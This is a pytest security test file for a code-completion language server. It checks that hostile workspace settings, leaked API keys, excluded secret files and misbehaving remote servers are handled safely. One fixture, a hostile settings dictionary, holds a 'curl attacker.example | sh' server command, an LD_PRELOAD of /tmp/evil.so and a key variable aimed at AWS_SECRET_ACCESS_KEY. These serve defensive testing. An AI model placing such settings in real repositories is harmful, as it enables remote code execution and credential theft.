"""Trust boundaries and resources (issue 23, items 2-21): what a hostile workspace, repository, remote server or client can make
the real server do, each case as it happened, through the real ``codellama-lsp --stdio`` process.

The remote engine talks to a misbehaving HTTP server on 127.0.0.1 (``tests/fixtures/fake_openai.py``: a real
server over real sockets that records every request), so the tests read what left the machine: the prompt
token ids (decoded with the demo model's vocabulary) and the ``Authorization`` header. Exclusions are real files
and symlinks in a temporary workspace. VS Code's settings scopes are checked against a hostile
``.vscode/settings.json`` with VS Code's rule (a workspace file cannot set ``application`` or ``machine`` settings).
"""

from __future__ import annotations

import itertools
import json
import os
import socket
import stat
import subprocess
import time
from pathlib import Path
from typing import Any

import gguf
import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from lsprotocol import types

from lsp_server import config
from lsp_server.engines.remote import local_vocab
from lsp_server.models import resolve
from lsp_server.server.documents import edit_point
from tests.fixtures.fake_openai import Behaviour, FakeOpenAI, fake_openai
from tests.fixtures.lsp_client import SERVER, server_env
from tests.fixtures.raw_lsp import RawServer, frame

DEMO = resolve("demo").path
REPO = Path(__file__).resolve().parents[1]
MARKER = "zq_secret_marker_7731"


@pytest.fixture(scope="module")
def demo_vocab():
    return local_vocab(DEMO)


def remote_args(fake: FakeOpenAI, *extra: str) -> tuple[str, ...]:
    return ("--engine", "openai", "--url", fake.url, "--request-timeout", "3", *extra)


def start(fake: FakeOpenAI, *extra: str, env: dict[str, str] | None = None, options: dict | None = None) -> RawServer:
    s = RawServer(remote_args(fake, *extra), env=env)
    s.initialize("demo", {"maxTokens": 8, "timeBudgetMs": 20000, **(options or {})})
    return s


def open_doc(s: RawServer, uri: str, text: str, language: str = "python") -> None:
    s.notify("textDocument/didOpen", {"textDocument": {"uri": uri, "languageId": language, "version": 1, "text": text}})


def change(s: RawServer, uri: str, version: int, line: int, text: str) -> None:
    pos = {"line": line, "character": 0}
    s.notify(
        "textDocument/didChange",
        {
            "textDocument": {"uri": uri, "version": version},
            "contentChanges": [{"range": {"start": pos, "end": pos}, "text": text}],
        },
    )


def inline(s: RawServer, uri: str, line: int, character: int) -> dict[str, Any]:
    ctx = {"triggerKind": 1}
    reply = s.request(
        "textDocument/inlineCompletion",
        {"textDocument": {"uri": uri}, "position": {"line": line, "character": character}, "context": ctx},
    )
    assert "result" in reply, reply
    return reply["result"]


def prompts(fake: FakeOpenAI, vocab) -> list[str]:
    """Every prompt the server received, as text."""
    out = []
    for r in fake.completions():
        p = r.body["prompt"]
        out.append(vocab.decode(p) if isinstance(p, list) else str(p))
    return out


def messages(s: RawServer) -> list[str]:
    return [f["params"]["message"] for f in s.notifications("window/showMessage")]


def uri_of(path: Path) -> str:
    return path.as_uri()


# ---- 2. settings that cannot send secrets away --------------------------------------------------------------------
def test_workspace_settings_cannot_send_prompts_or_keys_elsewhere(demo_vocab) -> None:
    """Item 2: ``didChangeConfiguration {"url": <another host>, "apiKeyEnv": "ANY_VARIABLE"}`` is refused: no request
    reaches the other host, the variable's value never travels, the user is told why."""
    env = server_env() | {"SOME_OTHER_SECRET": "hunter2-do-not-send", "CODELLAMA_API_KEY": "the-real-key"}
    with fake_openai() as trusted, fake_openai() as evil:
        s = start(trusted, env=env)
        try:
            mark = len(s.frames)
            s.notify(
                "workspace/didChangeConfiguration",
                {"settings": {"engine": "openai", "url": evil.url + "/", "apiKeyEnv": "SOME_OTHER_SECRET"}},
            )
            s.wait(lambda: len([m for m in messages(s) if "--allow-remote-settings" in m]) >= 2)
            open_doc(s, "file:///w/main.py", "def add(a, b):\n    \n")
            inline(s, "file:///w/main.py", 1, 4)
            assert evil.requests == [], evil.requests
            sent = [r.headers.get("Authorization", "") for r in trusted.requests]
            assert sent and all(h == "Bearer the-real-key" for h in sent), sent
            assert "hunter2" not in json.dumps([f for f in s.frames[mark:]]) and "hunter2" not in s.stderr()
        finally:
            s.stop()


def test_the_command_line_may_allow_settings_to_choose_the_server(demo_vocab) -> None:
    """Item 2, the way out: ``--allow-remote-settings`` (the user's own choice) lets settings name the server."""
    with fake_openai() as first, fake_openai() as second:
        s = start(first, "--allow-remote-settings")
        try:
            mark = len(s.statuses())
            s.notify("workspace/didChangeConfiguration", {"settings": {"url": second.url}})
            assert s.wait_status({"ready", "error"}, after=mark + 1)["state"] == "ready"
            open_doc(s, "file:///w/main.py", "def add(a, b):\n    \n")
            inline(s, "file:///w/main.py", 1, 4)
            assert second.completions()
        finally:
            s.stop()


def test_allow_host_names_further_servers() -> None:
    trust = config.Trust.from_command_line({"url": "https://gpu-box:8443"}, ("backup-box:8080",))
    assert config.guard({"url": "https://GPU-box:8443/v1"}, trust)[1] == []
    assert config.guard({"url": "http://backup-box:8080"}, trust)[1] == []
    for url in ("http://gpu-box:8443", "https://gpu-box:9999", "https://evil.example", "http://backup-box:8081"):
        raw, problems = config.guard({"url": url}, trust)
        assert "url" not in raw and problems, url


# VS Code: a workspace's .vscode/settings.json cannot set settings of these scopes (they are user/machine only)
_NOT_FROM_WORKSPACE = {"application", "machine"}
HOSTILE_WORKSPACE = {
    "codellama.url": "http://attacker.example:8080",
    "codellama.apiKeyEnv": "AWS_SECRET_ACCESS_KEY",
    "codellama.engine": "openai",
    "codellama.tlsVerify": False,
    "codellama.remoteModel": "x",
    "codellama.server.command": ["sh", "-c", "curl attacker.example | sh"],
    "codellama.server.pythonPath": "/tmp/evil/python",
    "codellama.server.extraArgs": ["--allow-remote-settings"],
    "codellama.server.env": {"LD_PRELOAD": "/tmp/evil.so"},
}


@pytest.mark.parametrize("names", ["codeLlama", "codellama"])
def test_a_hostile_workspace_settings_file_cannot_set_where_prompts_go(tmp_path: Path, names: str) -> None:
    """Item 2 in VS Code: a cloned repository's ``.vscode/settings.json`` sets the remote settings; VS Code ignores a
    workspace value of an ``application``/``machine`` setting, and an untrusted workspace's values of the
    ``restrictedConfigurations``. Every key of the hostile file must be one of those, under the settings' names
    (``codeLlama.*``) and under their old names (``codellama.*``, issue 24 item 11: still registered, hidden, with the
    same scopes; the extension's migration never moves a workspace's machine value, see vscode-client/src/rename.ts
    and its unit tests)."""
    (tmp_path / ".vscode").mkdir()
    hostile_file = {f"{names}.{k.split('.', 1)[1]}": v for k, v in HOSTILE_WORKSPACE.items()}
    (tmp_path / ".vscode" / "settings.json").write_text(json.dumps(hostile_file))
    package = json.loads((REPO / "vscode-client" / "package.json").read_text())
    props = package["contributes"]["configuration"]["properties"]
    hostile = json.loads((tmp_path / ".vscode" / "settings.json").read_text())
    # VS Code's rule, applied to the file: what a workspace may set of ours
    effective = {k: v for k, v in hostile.items() if props[k].get("scope", "window") not in _NOT_FROM_WORKSPACE}
    assert effective == {}, effective
    untrusted = package["capabilities"]["untrustedWorkspaces"]
    assert untrusted["supported"] in ("limited", False)
    restricted = set(untrusted.get("restrictedConfigurations", []))
    assert f"{names}.model" in restricted
    assert set(hostile) <= restricted


# ---- 3. secrets in messages ---------------------------------------------------------------------------------------
def test_a_key_with_a_line_break_is_never_shown(demo_vocab) -> None:
    """Item 3: an API key with CR/LF (httpx: "Illegal header value b'Bearer ...'") appears in no popup, status or log."""
    env = server_env() | {"CODELLAMA_API_KEY": "sk-live-0123456789\r\nX-Injected: yes"}
    with fake_openai() as fake:
        s = RawServer(remote_args(fake), env=env)
        try:
            s.initialize("demo", wait_status=False)
            err = s.wait_status({"error"})
            assert "CODELLAMA_API_KEY" in err["message"] and "line break" in err["message"]
            everything = json.dumps(s.frames) + s.stderr()
            assert "0123456789" not in everything
            assert all("X-Injected" not in json.dumps(r.headers) for r in fake.requests)
        finally:
            s.stop()


def test_a_url_password_is_not_logged() -> None:
    """Item 3: the settings line logged at start and on every change shows the url without its password."""
    with fake_openai() as fake:
        host = fake.url.split("//", 1)[1]
        s = RawServer(("--engine", "openai", "--url", f"http://alice:pw-s3cret-77@{host}", "--request-timeout", "3"))
        try:
            s.initialize("demo")
            s.notify("workspace/didChangeConfiguration", {"settings": {"maxTokens": 9}})
            s.request("codellama/documentState", {"uri": "file:///nothing.py"})  # a round trip: the change is logged
            assert "pw-s3cret-77" not in s.stderr() and "pw-s3cret-77" not in json.dumps(s.frames)
        finally:
            s.stop()


def test_a_huge_model_name_is_not_echoed_whole() -> None:
    """Item 3: a 100k-character ``model`` is refused with a short message; the status never carries it whole."""
    s = RawServer()
    try:
        s.initialize("demo")
        mark = len(s.frames)
        s.notify("workspace/didChangeConfiguration", {"settings": {"model": "m" * 100_000}})
        s.wait(lambda: any("setting model" in m for m in messages(s)))
        s.request("codellama/documentState", {"uri": "file:///nothing.py"})
        longest = max(len(json.dumps(f)) for f in s.frames[mark:])
        assert longest < 3000, longest
        assert s.statuses()[-1]["model"] == "demo"
    finally:
        s.stop()


# ---- 4-8. exclusions match files, not spellings --------------------------------------------------------------------
SECRET = f"API_TOKEN = '{MARKER}'\ndef connect(host, port):\n    return open_session(host, port, API_TOKEN)\n"
MAIN = "def connect(host, port):\n    token = API_TOKEN\n    return open_session(host, port, \n"


def _ask_main(s: RawServer, ws: Path) -> None:
    main = uri_of(ws / "main.py")
    open_doc(s, main, MAIN)
    inline(s, main, 2, 36)


def _no_marker(fake: FakeOpenAI, vocab) -> None:
    got = prompts(fake, vocab)
    assert got, "no prompt reached the engine"
    assert all(MARKER not in p for p in got), [p[:300] for p in got if MARKER in p]


def test_the_marker_does_reach_the_prompt_of_an_ordinary_file(tmp_path: Path, demo_vocab) -> None:
    """The control: the same text in an ordinary file is context (so the tests below test something)."""
    (tmp_path / "notes.py").write_text(SECRET)
    with fake_openai() as fake:
        s = start(fake)
        try:
            open_doc(s, uri_of(tmp_path / "notes.py"), SECRET)
            _ask_main(s, tmp_path)
            assert any(MARKER in p for p in prompts(fake, demo_vocab))
        finally:
            s.stop()


@pytest.mark.parametrize("name", [".ENV", ".Env", "server.KEY", "Secrets.yaml", ".env.Local"])
def test_excluded_names_match_case_insensitively(tmp_path: Path, demo_vocab, name: str) -> None:
    """Item 4: on macOS and Windows ``.ENV`` is ``.env``: never context, never completed."""
    (tmp_path / name).write_text(SECRET)
    with fake_openai() as fake:
        s = start(fake)
        try:
            secret = uri_of(tmp_path / name)
            open_doc(s, secret, SECRET)
            assert inline(s, secret, 2, 10)["items"] == [] and fake.completions() == []  # never completed
            _ask_main(s, tmp_path)
            _no_marker(fake, demo_vocab)
        finally:
            s.stop()


def test_a_symlink_to_an_excluded_file_is_excluded(tmp_path: Path, demo_vocab) -> None:
    """Item 5: ``notes.py`` -> ``.env``: the file is what counts, not the name it was opened by."""
    (tmp_path / ".env").write_text(SECRET)
    (tmp_path / "notes.py").symlink_to(tmp_path / ".env")
    with fake_openai() as fake:
        s = start(fake)
        try:
            link = uri_of(tmp_path / "notes.py")
            open_doc(s, link, SECRET)
            assert inline(s, link, 2, 10)["items"] == [] and fake.completions() == []
            _ask_main(s, tmp_path)
            _no_marker(fake, demo_vocab)
        finally:
            s.stop()


def _edit_then_elsewhere(s: RawServer, uri: str, ws: Path) -> str:
    """An edit in ``uri``, then one in ``main.py`` (open): the first region goes into the ring of recently
    edited regions. Returns main.py's URI."""
    change(s, uri, 2, 0, "# edited\n")
    main = uri_of(ws / "main.py")
    open_doc(s, main, MAIN)
    change(s, main, 2, 0, "\n")
    return main


def _ask(s: RawServer, main: str) -> None:
    inline(s, main, 3, 36)


def _renamed_on_disk_then_reopened(s, old: str, tmp_path: Path) -> None:
    """Closed, moved on disk, opened under the new name."""
    (tmp_path / "notes.py").rename(tmp_path / ".env")
    s.notify("textDocument/didClose", {"textDocument": {"uri": old}})
    open_doc(s, uri_of(tmp_path / ".env"), "# edited\n" + SECRET, "python")


def _rename_told_by_the_editor(s, old: str, tmp_path: Path) -> None:
    """The editor's own news (``workspace/didRenameFiles``), before the file is reopened."""
    s.notify("workspace/didRenameFiles", {"files": [{"oldUri": old, "newUri": uri_of(tmp_path / ".env")}]})
    s.notify("textDocument/didClose", {"textDocument": {"uri": old}})


def _closed_and_reopened_as_env(s, old: str, tmp_path: Path) -> None:
    """An editor that tells nothing but close and open (the old file still on disk: a copy)."""
    s.notify("textDocument/didClose", {"textDocument": {"uri": old}})
    open_doc(s, uri_of(tmp_path / ".env"), "# edited\n" + SECRET, "properties")


@pytest.mark.parametrize("rename", [_renamed_on_disk_then_reopened, _rename_told_by_the_editor, _closed_and_reopened_as_env])
def test_a_file_renamed_to_env_takes_its_chunks_out_of_the_ring(tmp_path: Path, demo_vocab, rename) -> None:
    """Item 6: edited as ``notes.py``, then renamed to ``.env`` in each way an editor may tell it: its chunks leave the
    ring, so no prompt for another file carries them."""
    (tmp_path / "notes.py").write_text(SECRET)
    with fake_openai() as fake:
        s = start(fake)
        try:
            old = uri_of(tmp_path / "notes.py")
            open_doc(s, old, SECRET)
            main = _edit_then_elsewhere(s, old, tmp_path)
            rename(s, old, tmp_path)
            _ask(s, main)
            _no_marker(fake, demo_vocab)
        finally:
            s.stop()


def test_an_absolute_pattern_added_after_editing_purges_the_ring(tmp_path: Path, demo_vocab) -> None:
    """Item 7: the ring holds workspace-relative paths; an absolute pattern must still find them."""
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "notes.py").write_text(SECRET)
    with fake_openai() as fake:
        s = RawServer(remote_args(fake))
        try:
            init = {"model": "demo", "maxTokens": 8, "timeBudgetMs": 20000}
            s.request(
                "initialize", {"processId": None, "rootUri": uri_of(tmp_path), "capabilities": {}, "initializationOptions": init}
            )
            s.notify("initialized", {})
            s.wait_status({"ready"})
            notes = uri_of(tmp_path / "private" / "notes.py")
            open_doc(s, notes, SECRET)
            main = _edit_then_elsewhere(s, notes, tmp_path)
            s.notify("textDocument/didClose", {"textDocument": {"uri": notes}})
            s.notify("workspace/didChangeConfiguration", {"settings": {"exclude": [str(tmp_path / "private") + "/*"]}})
            _ask(s, main)
            _no_marker(fake, demo_vocab)
        finally:
            s.stop()


def test_a_trailing_slash_does_not_hide_an_excluded_name(tmp_path: Path, demo_vocab) -> None:
    """Item 8: ``file:///w/.env/`` is ``/w/.env``."""
    with fake_openai() as fake:
        s = start(fake)
        try:
            secret = uri_of(tmp_path / ".env") + "/"
            open_doc(s, secret, SECRET)
            assert inline(s, secret, 2, 10)["items"] == [] and fake.completions() == []
            _ask_main(s, tmp_path)
            _no_marker(fake, demo_vocab)
        finally:
            s.stop()


def test_many_exclude_patterns_are_refused_and_matching_stays_fast() -> None:
    """Item 14 (exclusions): 100,000 patterns are a settings problem; 1,000 match in microseconds per file."""
    s, problems = config.parse({"exclude": [f"*.gen{i}" for i in range(100_000)]})
    assert s.exclude == [] and any("at most 1000 exclude patterns" in p for p in problems)
    s, problems = config.parse({"exclude": [f"*.gen{i}" for i in range(1000)]})
    assert problems == []
    t0 = time.perf_counter()
    for _ in range(200):
        assert not s.excluded("/w/src/main.py")
    assert (time.perf_counter() - t0) < 2.0  # 200 files: was > 30 s per request with 100,000 patterns


# ---- 10. back to the loaded model while another loads -------------------------------------------------------------
def test_back_to_the_loaded_model_while_a_bad_one_loads_ends_ready(tmp_path: Path) -> None:
    bad = tmp_path / "bad.gguf"
    bad.write_bytes(b"GGUF" + b"\0" * 60)
    s = RawServer()
    try:
        s.initialize("demo")
        for model in (bad, "demo"):
            s.notify("workspace/didChangeConfiguration", {"settings": {"model": str(model)}})
        # round trips: every load has been started, finished or dropped when documentState answers
        time.sleep(0.5)
        s.request("codellama/documentState", {"uri": "file:///x.py"})
        s.wait(lambda: s.statuses()[-1]["state"] in ("ready", "error"))
        time.sleep(2)  # a late failure of the dropped load would show now
        assert s.statuses()[-1]["state"] == "ready", s.statuses()[-4:]
        open_doc(s, "file:///w/a.py", "def add(a, b):\n    \n")
        assert "items" in inline(s, "file:///w/a.py", 1, 4)
    finally:
        s.stop()


def test_three_hundred_rapid_switches_end_with_the_last_model(tmp_path: Path) -> None:
    bad = tmp_path / "bad.gguf"
    bad.write_bytes(b"GGUF" + b"\0" * 60)
    s = RawServer()
    try:
        s.initialize("demo")
        for i in range(300):
            s.notify("workspace/didChangeConfiguration", {"settings": {"model": str(bad) if i % 2 == 0 else "demo"}})
        s.request("codellama/documentState", {"uri": "file:///x.py"})
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and s.statuses()[-1]["state"] == "loading":
            time.sleep(0.2)
        time.sleep(2)
        assert s.statuses()[-1]["state"] == "ready", s.statuses()[-4:]
        assert "Traceback" not in s.stderr()
    finally:
        s.stop()


# ---- 11. a duplicated token text ----------------------------------------------------------------------------------
def test_a_gguf_with_a_repeated_token_text_is_refused_and_the_server_lives(tmp_path: Path) -> None:
    bad = tmp_path / "dup.gguf"
    bad.write_bytes(DEMO.read_bytes())
    r = gguf.GGUFReader(bad, "r+")
    tokens = r.fields["tokenizer.ggml.tokens"]
    texts = [bytes(tokens.parts[i]) for i in tokens.data]
    by_len: dict[int, int] = {}
    pair = None
    for i, t in enumerate(texts[300:], 300):
        if len(t) in by_len:
            pair = (by_len[len(t)], i)
            break
        by_len[len(t)] = i
    assert pair is not None
    tokens.parts[tokens.data[pair[1]]][:] = tokens.parts[tokens.data[pair[0]]]
    r.data.flush()
    del r, tokens
    s = RawServer()
    try:
        s.initialize(bad, wait_status=False)
        err = s.wait_status({"error"}, timeout=120)
        assert "distinct token texts" in err["message"], err
        assert s.proc.poll() is None  # alive: llama.cpp never saw the file
        mark = len(s.statuses())
        s.notify("workspace/didChangeConfiguration", {"settings": {"model": "demo"}})
        assert s.wait_status({"ready", "error"}, after=mark + 1, timeout=120)["state"] == "ready"
    finally:
        s.stop()


# ---- 13, 15, 16. remote servers that misbehave ---------------------------------------------------------------------
def _engine(fake: FakeOpenAI, vocab, **kw):
    from lsp_server.engines.openai import OpenAIEngine
    from lsp_server.engines.remote import RemoteOptions

    return OpenAIEngine(vocab, RemoteOptions(url=fake.url, timeout_s=5, **kw), "demo")


def _request(vocab, **kw):
    from lsp_server.engines import GenerationRequest

    defaults: dict[str, Any] = dict(prompt=vocab.encode("def add(a, b):\n"), max_tokens=16, time_budget_s=2.0)
    defaults.update(kw)
    return GenerationRequest(**defaults)


def _rss_mb() -> float:
    with open("/proc/self/status") as f:
        return next(int(line.split()[1]) for line in f if line.startswith("VmRSS:")) / 1024


def test_a_gigabyte_model_list_is_refused_without_reading_it(demo_vocab) -> None:
    """Item 13: a 1 GB ``/v1/models`` cost 4.1 GB of memory; now the engine stops reading at 4 MiB."""
    with fake_openai(Behaviour(models_bytes=1 << 30)) as fake:
        before = _rss_mb()
        t0 = time.perf_counter()
        engine = _engine(fake, demo_vocab)
        try:
            assert engine.down is not None and "at most 4 MiB" in engine.down
            assert time.perf_counter() - t0 < 30
            assert _rss_mb() - before < 200
        finally:
            engine.close()


def test_an_endless_stream_stops_at_max_tokens_and_the_budget(demo_vocab) -> None:
    """Item 13: a server that ignores ``max_tokens`` and streams forever: we stop at ``max_tokens``, and a slow
    endless stream at the time budget."""
    with fake_openai(Behaviour(endless=True)) as fake:
        engine = _engine(fake, demo_vocab)
        try:
            result = engine.submit(_request(demo_vocab, max_tokens=16)).future.result(30)
            assert result.stop == "length" and len(result.candidates[0].text) == 16
            assert result.generated_tokens == 16  # item 15: counted although the stream was closed early
            fake.behaviour.event_gap_s = 0.01
            t0 = time.perf_counter()
            result = engine.submit(_request(demo_vocab, max_tokens=2048, time_budget_s=1.0)).future.result(30)
            assert result.stop == "time" and time.perf_counter() - t0 < 4
            assert result.generated_tokens > 0
        finally:
            engine.close()


def test_a_server_with_another_vocabulary_of_the_same_size_is_refused(demo_vocab) -> None:
    """Item 15: the size matches, ``/tokenize`` does not: refused, never silently empty answers."""
    other = Behaviour(n_vocab=demo_vocab.n_vocab, tokenize=lambda text: [t + 1 for t in demo_vocab.encode(text)])
    with fake_openai(other) as fake:
        engine = _engine(fake, demo_vocab)
        try:
            assert engine.down is not None and "tokenizes differently" in engine.down
        finally:
            engine.close()
    same = Behaviour(n_vocab=demo_vocab.n_vocab, tokenize=demo_vocab.encode)
    with fake_openai(same) as fake:
        engine = _engine(fake, demo_vocab)
        try:
            assert engine.down is None
        finally:
            engine.close()


def test_a_first_probe_that_fails_sends_error_never_ready_first() -> None:
    """Item 16."""
    with fake_openai(Behaviour(models_status=500)) as fake:
        s = RawServer(remote_args(fake))
        try:
            s.initialize("demo", wait_status=False)
            s.wait_status({"error"})
            s.request("codellama/documentState", {"uri": "file:///x.py"})
            states = [st["state"] for st in s.statuses()]
            assert "ready" not in states, states
            assert len([m for m in messages(s) if "HTTP 500" in m]) == 1
        finally:
            s.stop()


# ---- 17. the TCP edge --------------------------------------------------------------------------------------------
def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _tcp(args: list[str], env: dict[str, str] | None = None) -> subprocess.Popen:
    return subprocess.Popen(
        [*SERVER[:-2], *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env or server_env(), text=True
    )


def _read_until(proc: subprocess.Popen, needle: str, timeout: float = 60) -> str:
    seen = ""
    deadline = time.monotonic() + timeout
    assert proc.stderr is not None
    while needle not in seen and time.monotonic() < deadline:
        line = proc.stderr.readline()
        if not line:
            break
        seen += line
    return seen


def test_a_token_with_a_lone_surrogate_is_refused_with_an_answer(tmp_path: Path) -> None:
    port = _free_port()
    proc = _tcp(["--tcp", "--port", str(port)], env=server_env() | {"CODELLAMA_LSP_TOKEN": "good-token"})
    try:
        assert "listening" in _read_until(proc, "listening")
        with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
            body = b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"capabilities":{},'
            body += b'"initializationOptions":{"token":"\\ud800"}}}'
            sock.sendall(frame(body))
            reply = sock.recv(65536)
        assert b"wrong token" in reply
    finally:
        proc.kill()
        _, err = proc.communicate(timeout=30)
    assert "Traceback" not in err and "UnicodeEncodeError" not in err


def test_token_file_checks(tmp_path: Path) -> None:
    """Item 14 and 17: a FIFO and ``/dev/zero`` are refused at once; a file others can read gets a warning."""
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    for bad, message in ((fifo, "a FIFO"), (Path("/dev/zero"), "a character device")):
        r = subprocess.run(
            [*SERVER[:-2], "--tcp", "--port", "0", "--token-file", str(bad)],
            capture_output=True, text=True, timeout=60, env=server_env(),
        )  # fmt: skip
        assert r.returncode == 1 and message in r.stderr, r.stderr
    token = tmp_path / "token"
    token.write_text("secret-token\n")
    token.chmod(0o644)
    port = _free_port()
    proc = _tcp(["--tcp", "--host", "0.0.0.0", "--port", str(port), "--token-file", str(token)])
    try:
        seen = _read_until(proc, "listening")
        assert "can be read by others" in seen and "chmod 600" in seen
        assert "other machines can reach this server" in seen  # --host 0.0.0.0
    finally:
        proc.kill()
        proc.communicate(timeout=30)
    token.chmod(stat.S_IRUSR | stat.S_IWUSR)


# ---- 18. the accepted event starts the prefetch ------------------------------------------------------------------
def test_an_accepted_event_starts_the_prefetch() -> None:
    """Item 18: ``codellama/event {"kind": "accepted", "uri": ...}`` (a dict, as every client sends it) starts the
    prefetch of the next completion (the log tells each start; the change that applied the suggestion starts
    one too, so the event's is the second)."""
    s = RawServer()
    try:
        s.initialize("demo", {"maxTokens": 16, "timeBudgetMs": 30000})
        uri = "file:///w/accept.py"
        text = "def add(a, b):\n    return a + b\n\n\ndef sub(a, b):\n    \n"
        open_doc(s, uri, text)
        items = inline(s, uri, 5, 4)["items"]
        assert items and items[0]["insertText"].strip(), items
        pos = {"line": 5, "character": 4}
        s.notify(
            "textDocument/didChange",
            {
                "textDocument": {"uri": uri, "version": 2},
                "contentChanges": [{"range": {"start": pos, "end": pos}, "text": items[0]["insertText"]}],
            },
        )
        s.notify("codellama/event", {"kind": "accepted", "uri": uri, "languageId": "python", "index": 0})
        s.request("codellama/documentState", {"uri": uri})  # a round trip: the event has been handled
        deadline = time.monotonic() + 30
        while s.stderr().count("suggestion accepted in accept.py; prefetching") < 2 and time.monotonic() < deadline:
            time.sleep(0.1)
        assert s.stderr().count("suggestion accepted in accept.py; prefetching") == 2, s.stderr()[-3000:]
        assert "AttributeError" not in s.stderr()
    finally:
        s.stop()


# ---- 19. settings of the wrong shape -----------------------------------------------------------------------------
def test_wrong_shapes_are_settings_problems_not_tracebacks() -> None:
    s = RawServer()
    try:
        s.initialize("demo")
        for bad in ({"enable": ["python"]}, {"rules": ["x"]}, {"url": "http://[::1"}, {"url": "http://127.0.0.1:99999"}):
            s.notify("workspace/didChangeConfiguration", {"settings": bad})
        s.wait(lambda: len([m for m in messages(s) if "setting " in m]) >= 4)
        shown = [m for m in messages(s) if "setting " in m]
        assert any("enable: expected an object of true/false values" in m for m in shown), shown
        assert sum("url: expected url to be a valid" in m for m in shown) == 2, shown
        assert "AttributeError" not in " ".join(shown) and "Traceback" not in s.stderr()
        assert s.statuses()[-1]["state"] == "ready"
    finally:
        s.stop()


# ---- 20. a late answer to our request ------------------------------------------------------------------------------
def test_a_late_answer_to_a_server_request_is_dropped_quietly() -> None:
    """The server asks ``window/workDoneProgress/create`` and gives up after 5 s; the answer comes after that."""
    s = RawServer()
    try:
        caps = {"window": {"workDoneProgress": True}}
        s.request("initialize", {"processId": None, "rootUri": None, "capabilities": caps, "initializationOptions": {}})
        s.notify("initialized", {})
        create = s.wait(lambda: next((f for f in s.frames if f.get("method") == "window/workDoneProgress/create"), None))
        s.wait_status({"ready", "error"}, timeout=120)  # the server went on without progress
        time.sleep(0.2)
        s.send({"jsonrpc": "2.0", "id": create["id"], "result": None})
        s.request("codellama/documentState", {"uri": "file:///x.py"})
        err = s.stderr()
        assert "InvalidStateError" not in err and "Traceback" not in err, err[-2000:]
    finally:
        s.stop()


# ---- 21. a reversed selected range --------------------------------------------------------------------------------
def test_a_reversed_selected_range_is_read_as_the_same_span() -> None:
    text = "x = foo.ba\n"
    a, b = types.Position(line=0, character=10), types.Position(line=0, character=8)
    selected = types.SelectedCompletionInfo(range=types.Range(start=a, end=b), text="bar")
    at = edit_point(text, a, selected, types.PositionEncodingKind.Utf16)
    assert (at.range.start.line, at.range.start.character) <= (at.range.end.line, at.range.end.character)
    assert at.range.start == b and at.range.end == a
    assert at.text == "x = foo.bar\n" and at.offset == len("x = foo.bar")


# ---- 9. big documents ---------------------------------------------------------------------------------------------
def test_a_big_document_is_not_parsed_and_the_tree_cache_is_bounded() -> None:
    """Item 9: a 5 MB ``.py`` is not parsed (its first parse took 14 s, 50 MB took 3.5 GB); the trees kept are
    bounded by their source bytes, not only by their count."""
    from lsp_server import syntax

    big = "x = 1\n" * 900_000  # 5.4 MB
    assert syntax.analyze("file:///w/big.py", big, 10) is None
    trees = syntax.SyntaxTrees(capacity=32, max_bytes=1 << 20)
    doc = "def f(a):\n    return a\n" * 10_000  # 230 KB each
    for i in range(10):
        assert syntax.analyze(f"file:///w/m{i}.py", doc, 5, trees) is not None
    assert trees.source_bytes <= 1 << 20


def test_a_big_document_never_stalls_the_others(tmp_path: Path) -> None:
    """Item 9 over stdio: a 5 MB ``.py`` open and asked for a completion; a small document still answers (within a
    generous bound: it waited 20 s behind the big one's parse), and the big one answers too."""
    s = RawServer()
    try:
        s.initialize("demo", {"maxTokens": 4, "timeBudgetMs": 30000})
        big = "def f(a):\n    return a\n" * 230_000 + "def g(b):\n    "
        open_doc(s, "file:///w/big.py", big)
        open_doc(s, "file:///w/small.py", "def add(a, b):\n    \n")
        msg_id = "big-1"
        params = {
            "textDocument": {"uri": "file:///w/big.py"},
            "position": {"line": 460_001, "character": 4},
            "context": {"triggerKind": 1},
        }
        s.send({"jsonrpc": "2.0", "id": msg_id, "method": "textDocument/inlineCompletion", "params": params})
        assert "items" in inline(s, "file:///w/small.py", 1, 4)
        assert "result" in s.response(msg_id, timeout=180)
        assert "Traceback" not in s.stderr()
    finally:
        s.stop()


def _keystrokes(s: RawServer, uri: str, text: str, keys: int, version: int, first: int = 0) -> tuple[str, int, list[str]]:
    """Send ``keys`` keystrokes at the end of ``uri`` (whose text is ``text``), each a one-character ``didChange`` and
    an ``inlineCompletion`` there (every 10th cancelled at once, every 40th character a newline), without waiting.
    Returns the text and version after them and the requests' ids."""
    ids: list[str] = []
    line, col = text.count("\n"), len(text) - text.rfind("\n") - 1
    for k in range(first, first + keys):
        ch = "\n" if k % 40 == 39 else "abcdefghij"[k % 10]
        version += 1
        pos = {"line": line, "character": col}
        s.notify("textDocument/didChange", {"textDocument": {"uri": uri, "version": version},
                                            "contentChanges": [{"range": {"start": pos, "end": pos}, "text": ch}]})  # fmt: skip
        text += ch
        line, col = (line + 1, 0) if ch == "\n" else (line, col + 1)
        rid = f"t{version}"
        s.send({"jsonrpc": "2.0", "id": rid, "method": "textDocument/inlineCompletion", "params": {
            "textDocument": {"uri": uri}, "position": {"line": line, "character": col}, "context": {"triggerKind": 2}}})  # fmt: skip
        if k % 10 == 4:
            s.notify("$/cancelRequest", {"id": rid})
        ids.append(rid)
    return text, version, ids


def _type_at_end(s: RawServer, uri: str, text: str, keys: int, version: int, burst: int = 20) -> tuple[str, int]:
    """``keys`` keystrokes (``_keystrokes``) in bursts whose replies are awaited, as an editor's are (the soak's typing)."""
    for first in range(0, keys, burst):
        text, version, ids = _keystrokes(s, uri, text, min(burst, keys - first), version, first)
        for r in ids:
            s.response(r, timeout=120)
    return text, version


def memory(s: RawServer) -> dict[str, Any]:
    reply = s.request("codellama/memory", timeout=120)
    assert "result" in reply, reply
    return reply["result"]


def test_a_keystroke_in_a_big_document_finds_its_line_through_the_index() -> None:
    """Item 9: the line index (``lines``) that replaced splitting the text up to the cursor (250 ms per call at the end
    of 50 MB, several calls a keystroke) agrees with the split after any edits, and a lookup leaves no gap between
    checkpoints wider than the bound (so it looks at a bounded part of the text, whatever the document's size)."""
    import random

    from lsp_server import lines
